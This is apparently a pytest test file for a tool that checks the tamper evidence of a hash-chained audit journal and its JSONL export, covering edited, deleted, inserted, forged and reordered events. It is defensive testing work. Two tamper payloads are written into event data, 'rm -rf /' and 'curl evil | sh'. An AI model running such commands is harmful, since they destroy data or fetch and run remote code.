"""`runbook verify`: every kind of tampering, in the database and in an export, is named."""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from audit_helpers import journal_restore

from runbook.app._verify import verify_export, verify_run
from runbook.clock import iso
from runbook.events._event import canonical, chain_hash

SEQ = 10  # the event every test tampers with: a host_started in the middle of the run


def cli(*args: str, state: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "runbook", "--state", str(state), *args],
        capture_output=True,
        text=True,
        timeout=60,
    )


@pytest.fixture
def journal(tmp_path: Path) -> tuple[Path, str]:
    db = tmp_path / "state.db"
    return db, journal_restore(db)


def tamper(db: Path, *statements: tuple[str, tuple[object, ...]]) -> None:
    """Change rows the way an attacker would: with the append-only triggers dropped."""
    conn = sqlite3.connect(db)
    try:
        conn.execute("DROP TRIGGER IF EXISTS events_no_update")
        conn.execute("DROP TRIGGER IF EXISTS events_no_delete")
        for sql, params in statements:
            conn.execute(sql, params)
        conn.commit()
    finally:
        conn.close()


def row(db: Path, run_id: str, seq: int) -> dict[str, object]:
    conn = sqlite3.connect(db)
    conn.row_factory = sqlite3.Row
    try:
        r = conn.execute("SELECT * FROM events WHERE run_id=? AND seq=?", (run_id, seq)).fetchone()
        return dict(r)
    finally:
        conn.close()


def last_seq(db: Path, run_id: str) -> int:
    conn = sqlite3.connect(db)
    try:
        query = "SELECT max(seq) FROM events WHERE run_id=?"
        return int(conn.execute(query, (run_id,)).fetchone()[0])
    finally:
        conn.close()


def renumber(
    run_id: str, first: int, last: int, delta: int
) -> list[tuple[str, tuple[object, ...]]]:
    """UPDATEs moving seqs first..last by delta, in an order the primary key allows."""
    seqs = range(last, first - 1, -1) if delta > 0 else range(first, last + 1)
    return [
        ("UPDATE events SET seq=? WHERE run_id=? AND seq=?", (s + delta, run_id, s)) for s in seqs
    ]


def forged(run_id: str, seq: int, prev_hash: str) -> tuple[str, tuple[object, ...]]:
    """A well-formed event whose hash is right for its place: the best an attacker can do."""
    data = {"answer": "done", "operator": "mallory", "note": "all fine", "wait_s": 0, "work_s": 1}
    ts = iso(1_795_000_100.0)
    h = chain_hash(prev_hash, canonical(run_id, seq, ts, "manual_answered", "apps", None, data))
    return (
        "INSERT INTO events (run_id, seq, ts, type, step, host, data, prev_hash, hash) "
        "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)",
        (run_id, seq, ts, "manual_answered", "apps", None, json.dumps(data), prev_hash, h),
    )


def test_an_untouched_run_verifies_from_the_cli(journal: tuple[Path, str]) -> None:
    db, run_id = journal
    out = cli("verify", "latest", state=db)
    assert out.returncode == 0, out.stderr
    head = row(db, run_id, last_seq(db, run_id))["hash"]
    assert out.stdout.strip() == f"ok: {last_seq(db, run_id)} events, chain head {head}"
    assert cli("verify", run_id, "--head", str(head), state=db).returncode == 0


def test_an_edited_row_is_named_from_the_cli(journal: tuple[Path, str]) -> None:
    db, run_id = journal
    tamper(db, ("UPDATE events SET host='sw9' WHERE run_id=? AND seq=?", (run_id, SEQ)))
    out = cli("verify", run_id, state=db)
    assert out.returncode == 1
    assert out.stdout.startswith(f"broken: seq {SEQ}: edited")
    assert "Traceback" not in out.stderr


def test_an_edit_with_a_recomputed_hash_is_named(journal: tuple[Path, str]) -> None:
    db, run_id = journal
    r = row(db, run_id, SEQ)
    data = json.loads(str(r["data"])) | {"command": "rm -rf /"}
    body = canonical(run_id, SEQ, str(r["ts"]), str(r["type"]), r["step"], r["host"], data)  # type: ignore[arg-type]
    new_hash = chain_hash(str(r["prev_hash"]), body)
    tamper(
        db,
        (
            "UPDATE events SET data=?, hash=? WHERE run_id=? AND seq=?",
            (json.dumps(data), new_hash, run_id, SEQ),
        ),
    )
    v = verify_run(db, run_id)
    assert v.problem is not None
    assert (v.problem.seq, v.problem.kind) == (SEQ, "edited")


def test_unreadable_data_is_named_not_a_crash(journal: tuple[Path, str]) -> None:
    db, run_id = journal
    tamper(db, ("UPDATE events SET data='{not json' WHERE run_id=? AND seq=?", (run_id, SEQ)))
    v = verify_run(db, "latest")
    assert v.problem is not None and (v.problem.seq, v.problem.kind) == (SEQ, "edited")


def test_bytes_that_are_not_utf8_are_named_from_the_cli(journal: tuple[Path, str]) -> None:
    """A flipped bit (a bad disk, a hex editor) can leave text SQLite cannot decode: still a
    verdict on that row (exit 1), not "cannot read the journal" (exit 2)."""
    db, run_id = journal
    data = str(row(db, run_id, SEQ)["data"]).encode()
    bad = data[:10] + b"\xff\xfe" + data[12:]
    tamper(
        db,
        ("UPDATE events SET data=CAST(? AS TEXT) WHERE run_id=? AND seq=?", (bad, run_id, SEQ)),
    )
    out = cli("verify", run_id, state=db)
    assert out.returncode == 1, out.stdout + out.stderr
    assert out.stdout.startswith(f"broken: seq {SEQ}: edited")


def test_a_deleted_row_is_named(journal: tuple[Path, str]) -> None:
    db, run_id = journal
    tamper(db, ("DELETE FROM events WHERE run_id=? AND seq=?", (run_id, SEQ)))
    out = cli("verify", "latest", state=db)
    assert out.returncode == 1
    assert out.stdout.startswith(f"broken: seq {SEQ}: deleted")


def test_a_deletion_hidden_by_renumbering_is_named(journal: tuple[Path, str]) -> None:
    db, run_id = journal
    n = last_seq(db, run_id)
    tamper(
        db,
        ("DELETE FROM events WHERE run_id=? AND seq=?", (run_id, SEQ)),
        *renumber(run_id, SEQ + 1, n, -1),
    )
    v = verify_run(db, run_id)
    assert v.problem is not None
    assert (v.problem.seq, v.problem.kind) == (SEQ, "deleted")
    assert f"was seq {SEQ + 1}" in v.problem.message


def test_an_inserted_row_is_named(journal: tuple[Path, str]) -> None:
    db, run_id = journal
    n = last_seq(db, run_id)
    prev = str(row(db, run_id, SEQ - 1)["hash"])
    tamper(db, *renumber(run_id, SEQ, n, +1), forged(run_id, SEQ, prev))
    out = cli("verify", run_id, state=db)
    assert out.returncode == 1
    assert out.stdout.startswith(f"broken: seq {SEQ}: inserted")


def test_an_event_appended_after_the_recorded_head_is_named(journal: tuple[Path, str]) -> None:
    db, run_id = journal
    n = last_seq(db, run_id)
    head = str(row(db, run_id, n)["hash"])
    tamper(db, forged(run_id, n + 1, head))
    assert verify_run(db, run_id).ok  # a correct chain: only the head shows it
    v = verify_run(db, run_id, head=head)
    assert v.problem is not None and (v.problem.seq, v.problem.kind) == (n + 1, "inserted")


def test_events_cut_from_the_end_show_against_the_head(journal: tuple[Path, str]) -> None:
    db, run_id = journal
    n = last_seq(db, run_id)
    head = str(row(db, run_id, n)["hash"])
    tamper(db, ("DELETE FROM events WHERE run_id=? AND seq>=?", (run_id, n - 2)))
    out = cli("verify", run_id, "--head", head, state=db)
    assert out.returncode == 1
    assert f"seq {n - 2}: deleted" in out.stdout


def test_reordered_rows_are_named(journal: tuple[Path, str]) -> None:
    db, run_id = journal
    swap = "UPDATE events SET seq=? WHERE run_id=? AND seq=?"
    tamper(
        db,
        (swap, (-1, run_id, SEQ)),
        (swap, (SEQ, run_id, SEQ + 1)),
        (swap, (SEQ + 1, run_id, -1)),
    )
    v = verify_run(db, run_id)
    assert v.problem is not None
    assert (v.problem.seq, v.problem.kind) == (SEQ, "reordered")


# -- the jsonl export ------------------------------------------------------------------------


@pytest.fixture
def export(journal: tuple[Path, str]) -> tuple[Path, list[str]]:
    db, _ = journal
    path = db.parent / "run.jsonl"
    out = cli("export", "latest", "--format", "jsonl", "-o", str(path), state=db)
    assert out.returncode == 0, out.stderr
    return path, path.read_text().splitlines(keepends=True)


def test_an_export_verifies_and_its_head_is_on_stderr(
    journal: tuple[Path, str], export: tuple[Path, list[str]]
) -> None:
    db, _ = journal
    path, lines = export
    head = json.loads(lines[-1])["hash"]
    out = cli("export", "latest", "--format", "jsonl", state=db)
    assert f"chain head {head}" in out.stderr
    assert out.stdout == "".join(lines)
    ok = cli("verify", str(path), "--head", head, state=db)
    assert (ok.returncode, ok.stdout.strip()) == (0, f"ok: {len(lines)} events, chain head {head}")


def test_an_edited_export_line_is_named(export: tuple[Path, list[str]]) -> None:
    path, lines = export
    ev = json.loads(lines[SEQ - 1])
    ev["ts"] = "2026-11-18T11:00:00.000Z"
    lines[SEQ - 1] = json.dumps(ev) + "\n"
    path.write_text("".join(lines))
    v = verify_export(path)
    assert v.problem is not None and (v.problem.seq, v.problem.kind) == (SEQ, "edited")
    assert v.line == SEQ and f"line {SEQ} of" in v.text()


def test_a_deleted_export_line_is_named(export: tuple[Path, list[str]]) -> None:
    path, lines = export
    del lines[SEQ - 1]
    path.write_text("".join(lines))
    v = verify_export(path)
    assert v.problem is not None and (v.problem.seq, v.problem.kind) == (SEQ, "deleted")


def test_an_inserted_export_line_is_named(export: tuple[Path, list[str]]) -> None:
    path, lines = export
    ev = json.loads(lines[SEQ - 1])
    ev["data"] = {**ev["data"], "command": "curl evil | sh"}
    lines.insert(SEQ - 1, json.dumps(ev) + "\n")
    path.write_text("".join(lines))
    v = verify_export(path)
    assert v.problem is not None and (v.problem.seq, v.problem.kind) == (SEQ, "inserted")


def test_a_duplicated_export_line_is_named(export: tuple[Path, list[str]]) -> None:
    path, lines = export
    lines.insert(SEQ, lines[SEQ - 1])
    path.write_text("".join(lines))
    v = verify_export(path)
    assert v.problem is not None and v.problem.kind == "inserted"
    assert v.problem.seq == SEQ


def test_reordered_export_lines_are_named(
    journal: tuple[Path, str], export: tuple[Path, list[str]]
) -> None:
    db, _ = journal
    path, lines = export
    lines[SEQ - 1], lines[SEQ] = lines[SEQ], lines[SEQ - 1]
    path.write_text("".join(lines))
    out = cli("verify", str(path), state=db)
    assert out.returncode == 1
    assert "reordered" in out.stdout
    assert f"seq {SEQ + 1}: reordered" in out.stdout
    assert f"(line {SEQ} of {path})" in out.stdout


def test_a_line_that_is_not_an_event_is_named(export: tuple[Path, list[str]]) -> None:
    path, lines = export
    lines[SEQ - 1] = '{"seq": "ten"}\n'
    path.write_text("".join(lines))
    v = verify_export(path)
    assert not v.ok and v.line == SEQ
    assert "missing field" in v.text()


def test_verify_of_a_missing_file_is_bad_input(tmp_path: Path) -> None:
    out = cli("verify", str(tmp_path / "nope.jsonl"), state=tmp_path / "state.db")
    assert out.returncode == 2
    assert "no such file" in out.stderr and "Traceback" not in out.stderr
